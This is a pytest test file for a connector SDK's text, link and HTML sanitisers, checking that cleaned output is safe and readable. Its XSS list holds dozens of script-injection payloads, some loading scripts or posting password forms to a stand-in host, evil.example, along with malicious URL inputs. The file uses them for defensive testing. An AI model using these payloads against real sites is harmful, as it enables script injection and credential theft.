"""Text and HTML of platforms come out harmless and readable."""

from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from connectors.sdk.mapping import (
    BadField,
    clean_html,
    html_text,
    is_too_deep,
    known,
    link_of,
    text_of,
)
from connectors.sdk.records import SafeHtml


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("  Renewal   for\r\n\tContoso  ", "Renewal for Contoso"),
        (" R2-D2, as it came ", "R2-D2, as it came"),
        ("R&amp;D &lt;Gold&gt;", "R&D <Gold>"),
        ("R&amp;amp;D", "R&D"),
        ("AT&T and Q&A", "AT&T and Q&A"),
        ("https://a.example/?x=1&region=eu&copy=2", "https://a.example/?x=1&region=eu&copy=2"),
        ("caf&eacute; &#8364;5 &#x20AC;", "café €5 €"),
        ("a\x00b\x07c\u2028d", "a b c d"),
        ("invoice \u202efdp.exe", "invoice fdp.exe"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("lone \ud800 surrogate", "lone surrogate"),
        ("&#8238;abc", "abc"),
        ("e\u0301", "é"),
        ("👩\u200d💻 dev", "👩\u200d💻 dev"),
        (4419005, "4419005"),
        ("x" * 501, "x" * 499 + "…"),
    ],
)
def test_text_is_one_readable_line(value: object, text: str) -> None:
    assert text_of(value) == text


@pytest.mark.parametrize("value", [None, "", " \n ", "\u200b", "&nbsp;", " " * 100])
def test_text_of_nothing_is_none(value: object) -> None:
    assert text_of(value) is None


@pytest.mark.parametrize("value", [True, ["a"], {"a": 1}])
def test_what_is_not_text_is_not_made_into_text(value: object) -> None:
    with pytest.raises(BadField, match=r"^a text was expected, not "):
        text_of(value)


awkward = st.text(
    st.sampled_from("a&amp;lt#x20 \n\u202e\u200b\x00é\u0301\u037e…") | st.characters(), max_size=80
)


@given(awkward)
@example("&l&#8203;t;")
@example("&lt\u037e")
@example("&" + "amp;" * 200 + "lt;")
def test_cleaning_text_twice_changes_nothing(value: str) -> None:
    once = text_of(value, limit=20)
    assert text_of(once, limit=20) == once
    assert once is None or len(once) <= 20
    assert once is None or once.encode("utf-8")


@pytest.mark.parametrize(
    "value", ["https://portal.example/renewals/1?a=b#c", " http://127.0.0.1:8000/x ", "HTTPS://A.B"]
)
def test_a_web_address_is_a_link(value: str) -> None:
    assert link_of(value) == value.strip()


@pytest.mark.parametrize(
    "value",
    [
        None,
        "",
        5,
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/x",
        "/logout",
        "mailto:a@b.example",
        "https://",
        "https:///path",
        "https://user:secret@host.example/",
        "https://good.example@evil.example/",
        "https:\\\\evil.example",
        "https://host.example:99999/",
        "https://[::1/",
        "https://host.example/a b",
        "https://host.example/" + "a" * 2000,
    ],
)
def test_anything_else_is_no_link(value: object) -> None:
    assert link_of(value) is None


def test_an_enum_is_found_whatever_its_spelling() -> None:
    table = {"ON_HOLD": "held", "in review": "review", "1": "one"}
    assert known("On Hold", table, None) == "held"
    assert known("on-hold", table, None) == "held"
    assert known("InReview", table, None) == "review"
    assert known(1, table, None) == "one"


def test_an_enum_value_nobody_knows_gets_the_default() -> None:
    assert known("SUPERSEDED", {"open": 1}, "unknown") == "unknown"
    assert known(None, {"open": 1}, 0) == 0
    assert known(["open"], {"open": 1}, 0) == 0


# Every way into a browser that the common collections of script injections list.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src onerror=alert(1)&gt;'>"
    ),
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html;base64,PHNjcmlwdD4='>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='https://user:pw@evil.example/'>x</a>",
    "<a href='x' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class='button' id='csrf' hx-get='/x' hx-on:click='alert(1)' data-x='1'>x</p>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</td></table>",
    "<td colspan='99999999'>x</td>",
    "<div onpointerover='alert(1)'>x</div>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p \x00onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<a href='https://ok.example' \u202eonclick=alert(1)>x</a>",
    "<" * 5000,
    "<div>" * 5000 + "<script>alert(1)</script>",
]
TAGS = {
    "p",
    "div",
    "br",
    "hr",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "pre",
    "blockquote",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "a",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "s",
    "sub",
    "sup",
    "code",
    "span",
}
ATTRIBUTES = {"href", "title", "rel", "colspan", "rowspan", "scope"}


class Audit(HTMLParser):
    """Fails on any tag, attribute or address that may do something."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES
            if name == "href":
                assert (value or "").startswith(("https://", "http://", "mailto:"))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")


def audit(html: str) -> None:
    reader = Audit(convert_charrefs=False)
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("attack", XSS, ids=lambda text: ascii(text)[:40])
def test_no_attack_survives_cleaning(attack: str) -> None:
    for html in (attack, f"<p>before {attack} after</p>", f"<b title='{attack}'>x</b>"):
        cleaned = clean_html(html)
        audit(cleaned)
        assert clean_html(cleaned) == cleaned


@given(st.lists(st.sampled_from(XSS[:-2]) | st.text(max_size=10), max_size=4).map("".join))
def test_no_mixture_of_attacks_survives_cleaning(html: str) -> None:
    cleaned = clean_html(html)
    audit(cleaned)
    assert clean_html(cleaned) == cleaned


def test_the_words_and_harmless_tags_of_html_stay() -> None:
    cleaned = clean_html(
        "<h3>Action</h3><p>Claim by <strong>31 March</strong>, see "
        '<a href="https://portal.example/claims">claims</a>.</p><ul><li>Proof</li></ul>'
    )
    assert isinstance(cleaned, SafeHtml)
    assert "<h3>Action</h3><p>Claim by <strong>31 March</strong>" in cleaned
    assert 'href="https://portal.example/claims"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_images_go_for_they_tell_the_sender_who_reads() -> None:
    assert clean_html("<p>a<img src='https://t.example/pixel.gif' alt='x'>b</p>") == "<p>ab</p>"


def test_huge_html_is_cut_and_stays_clean() -> None:
    cleaned = clean_html("<p>word</p>" * 100_000)
    assert len(cleaned) <= 200_100
    audit(cleaned)


@pytest.mark.parametrize(
    "nest", ["<div>", "<ul><li>", "<b></i>", "<a href=x>", "<table><tr><td>", "<B >"]
)
def test_of_html_that_no_parser_should_be_given_the_words_stay(nest: str) -> None:
    """25,000 lists within one another once kept a worker busy for a quarter of a minute."""
    deep = f"<p>Claim &amp; report</p><script>x()</script>{nest * 6_000}by <b>30 June</b>"

    assert is_too_deep(deep)
    assert html_text(deep).startswith("Claim & report")
    assert "by 30 June" in html_text(deep)
    assert "<" not in clean_html(deep)


def test_a_long_page_with_unclosed_rows_is_not_deep() -> None:
    rows = "<table>" + "<tr><td>Gold<td><b>2</b><br>" * 5_000 + "</table>"

    assert not is_too_deep(rows)
    assert "<b>2</b>" in clean_html(rows)


def test_the_text_of_html_has_a_line_for_each_block() -> None:
    html = (
        "<h3>Action&nbsp;required</h3><p>Claim by\n <b>31&nbsp;March</b> &amp; attach:</p>"
        "<ul><li>Invoice</li><li>Photo</li></ul><script>alert(1)</script>"
        "<table><tr><td>Gold</td><td>5 %</td></tr></table>"
    )
    assert html_text(html).splitlines() == [
        "Action required",
        "Claim by 31 March & attach:",
        "• Invoice",
        "• Photo",
        "Gold · 5 %",
    ]


def test_the_text_of_html_is_cut_at_its_limit() -> None:
    text = html_text("<p>" + "word " * 1000 + "</p>", limit=100)
    assert len(text) <= 100
    assert text.endswith("…")
